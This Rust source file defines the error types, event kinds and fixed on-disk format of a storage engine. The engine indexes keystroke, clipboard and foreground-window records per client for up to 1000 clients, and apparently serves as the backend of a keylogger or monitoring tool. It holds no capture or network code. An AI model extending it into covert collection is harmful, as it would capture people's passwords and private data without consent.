#![forbid(unsafe_code)]
//! Shared error type, event kinds, and on-disk format constants.

use std::fmt;

use thiserror::Error;

/// Errors surfaced by the storage engine.
#[derive(Debug, Error)]
pub enum MeowError {
    /// Underlying file I/O failed.
    #[error("IO: {0}")]
    Io(#[from] std::io::Error),
    /// A structure on disk violates its invariants and could not be repaired.
    #[error("corruption: {0}")]
    Corruption(String),
    /// Caller supplied an argument the engine cannot honor.
    #[error("invalid argument: {0}")]
    Invalid(&'static str),
    /// The file does not start with the expected magic constant.
    #[error("bad magic {found:#010x}, expected {expected:#010x}", expected = format::MAGIC)]
    BadMagic {
        /// Magic value read from the file.
        found: u32,
    },
    /// The file was written by an unknown format version.
    #[error("unsupported format version {0}")]
    UnsupportedVersion(u32),
    /// No live client is registered under this identifier.
    #[error("client not found: {0}")]
    ClientNotFound(String),
    /// No live client is registered under this identifier hash.
    #[error("no client registered for hash {0:#010x}")]
    UnknownClientHash(u32),
    /// The bump cursor cannot satisfy the allocation inside the fixed capacity.
    #[error("capacity exhausted: {requested} bytes at offset {cursor} exceeds capacity {capacity}")]
    CapacityExhausted {
        /// Size of the rejected allocation.
        requested: u64,
        /// Bump cursor at the time of the request.
        cursor: u64,
        /// Fixed file capacity.
        capacity: u64,
    },
    /// Every slot of the client directory is occupied.
    #[error("client directory full ({0} slots)")]
    DirectoryFull(usize),
    /// The header's maximum client count has been reached.
    #[error("client limit reached ({0})")]
    ClientLimit(u32),
    /// The engine has been closed.
    #[error("database is closed")]
    Closed,
    /// Engine options could not be loaded.
    #[error("config: {0}")]
    Config(String),
}

/// Result alias used across the crate.
pub type Result<T> = std::result::Result<T, MeowError>;

/// Byte offset into the database file. Zero doubles as the null offset since the
/// header always occupies offset 0.
pub type Offset = u64;

/// The three event families indexed per client.
#[derive(Copy, Clone, Debug, Eq, PartialEq, Hash, Ord, PartialOrd, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EventKind {
    /// Keystroke capture (64-byte records).
    Keystroke,
    /// Clipboard capture (512-byte records).
    Clipboard,
    /// Foreground window change (256-byte records).
    Window,
}

impl EventKind {
    /// All kinds in their on-disk field order.
    pub const ALL: [EventKind; 3] = [EventKind::Keystroke, EventKind::Clipboard, EventKind::Window];

    /// Fixed payload size of one record of this kind.
    pub const fn record_len(self) -> usize {
        match self {
            EventKind::Keystroke => format::KEYSTROKE_LEN,
            EventKind::Clipboard => format::CLIPBOARD_LEN,
            EventKind::Window => format::WINDOW_LEN,
        }
    }

    /// Position of this kind in per-kind arrays.
    pub const fn index(self) -> usize {
        match self {
            EventKind::Keystroke => 0,
            EventKind::Clipboard => 1,
            EventKind::Window => 2,
        }
    }

    /// Short lowercase name used in logs and reports.
    pub const fn name(self) -> &'static str {
        match self {
            EventKind::Keystroke => "keystroke",
            EventKind::Clipboard => "clipboard",
            EventKind::Window => "window",
        }
    }
}

impl fmt::Display for EventKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Stable 32-bit hash of a client identifier (djb2 over the identifier bytes).
///
/// The hash is computed over the identifier exactly as stored, so callers should
/// pass the already-truncated identifier when it may exceed
/// [`format::CLIENT_ID_CAPACITY`]. [`crate::storage::ClientRecord::new`] does this.
pub fn client_hash(id: &str) -> u32 {
    id.bytes()
        .fold(5381u32, |hash, b| hash.wrapping_shl(5).wrapping_add(hash).wrapping_add(b as u32))
}

/// Microseconds since the Unix epoch.
pub fn now_micros() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_micros() as u64)
        .unwrap_or(0)
}

pub mod format {
    //! Fixed sizes and constants of the single-file format.

    /// `'MEOW'` read as a native-endian `u32`.
    pub const MAGIC: u32 = 0x4D45_4F57;
    /// Only format version understood by this crate.
    pub const FORMAT_VERSION: u32 = 1;

    /// Header size at offset 0.
    pub const HEADER_LEN: usize = 256;
    /// Client record and directory slot size.
    pub const CLIENT_RECORD_LEN: usize = 256;
    /// Keystroke event size.
    pub const KEYSTROKE_LEN: usize = 64;
    /// Clipboard event size.
    pub const CLIPBOARD_LEN: usize = 512;
    /// Window event size.
    pub const WINDOW_LEN: usize = 256;
    /// B+ tree node page size.
    pub const NODE_PAGE_LEN: usize = 4096;

    /// Maximum keys per B+ tree node.
    pub const ORDER: usize = 63;

    /// Fixed width of the client identifier field (including its NUL).
    pub const CLIENT_ID_CAPACITY: usize = 64;
    /// Fixed width of the keystroke key field.
    pub const KEY_CAPACITY: usize = 48;
    /// Fixed width of the clipboard content field.
    pub const CLIPBOARD_CAPACITY: usize = 496;
    /// Fixed width of the window title field.
    pub const TITLE_CAPACITY: usize = 128;
    /// Fixed width of the window process field.
    pub const PROCESS_CAPACITY: usize = 112;

    /// Default pre-allocated file capacity (100 MiB).
    pub const DEFAULT_CAPACITY: u64 = 100 * 1024 * 1024;
    /// Default number of directory slots.
    pub const DEFAULT_TABLE_SLOTS: usize = 1024;
    /// Default header `max_clients`.
    pub const DEFAULT_MAX_CLIENTS: u32 = 1000;
}
